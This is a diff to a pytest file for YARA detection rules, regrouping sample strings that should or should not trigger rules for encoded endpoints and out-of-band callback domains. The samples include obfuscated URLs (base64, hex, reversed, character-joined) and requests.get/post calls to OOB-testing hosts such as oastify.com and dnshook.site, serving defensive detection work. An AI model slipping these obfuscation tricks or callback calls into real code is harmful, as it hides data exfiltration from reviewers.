@@ -17,36 +17,45 @@ def rules_hit(pack, text: str) -> set[str]:
     return {m.rule for m in pack.match(data=text.encode())}
 
 
-@pytest.mark.parametrize("text", [
+ENDPOINT_HITS = [
     "u = 'aHR0cHM6Ly9iZWFjb24uZXhhbXBsZS5pbnZhbGlk'\n",
     "u = b64decode('{}')\n".format(base64.b64encode(b"xxhttps://beacon.example.invalid/p").decode()),
     "u = bytes.fromhex('68747470733a2f2f6578616d706c652e696e76616c6964')\n",
     "u = 'ht' + 'tps://' + host\n",
     "u = ''.join(chr(c) for c in [104, 116, 116, 112, 115, 58])\n",
     "u = '//:sptth'[::-1]\n",
-])
-def test_encoded_endpoint_hits(pack, text):
-    assert "encoded_endpoint" in rules_hit(pack, text)
-
-
-@pytest.mark.parametrize("text", [
+]
+ENDPOINT_MISSES = [
     "u = 'https://example.invalid/docs'\n",
     "data = base64.b64encode(b'hello world')\n",
-])
-def test_encoded_endpoint_misses_plain_urls(pack, text):
-    assert "encoded_endpoint" not in rules_hit(pack, text)
-
-
-@pytest.mark.parametrize("text", [
+]
+OOB_HITS = [
     "requests.get('https://oastify.com/?x=1')\n",
     "u = 'abc123.oast.cz'\n",
     "requests.post('https://0f0f.dnshook.site', json=d)\n",
     "u = 'http://canarytokens.com/images/x'\n",
-])
+]
+OOB_MISSES = ["u = 'https://toast.fun.example.invalid'\n", "u = 'https://pipedream.com/docs'\n"]
+# What tests/yara/test_pack.py checks every rule has.
+POSITIVE = {"encoded_endpoint": ENDPOINT_HITS, "oob_destination_domain": OOB_HITS}
+BENIGN = {"encoded_endpoint": ENDPOINT_MISSES, "oob_destination_domain": OOB_MISSES}
+
+
+@pytest.mark.parametrize("text", ENDPOINT_HITS)
+def test_encoded_endpoint_hits(pack, text):
+    assert "encoded_endpoint" in rules_hit(pack, text)
+
+
+@pytest.mark.parametrize("text", ENDPOINT_MISSES)
+def test_encoded_endpoint_misses_plain_urls(pack, text):
+    assert "encoded_endpoint" not in rules_hit(pack, text)
+
+
+@pytest.mark.parametrize("text", OOB_HITS)
 def test_oob_destination_hits_apex_and_subdomains(pack, text):
     assert "oob_destination_domain" in rules_hit(pack, text)
 
 
-@pytest.mark.parametrize("text", ["u = 'https://toast.fun.example.invalid'\n", "u = 'https://pipedream.com/docs'\n"])
+@pytest.mark.parametrize("text", OOB_MISSES)
 def test_oob_destination_misses_lookalikes(pack, text):
     assert "oob_destination_domain" not in rules_hit(pack, text)
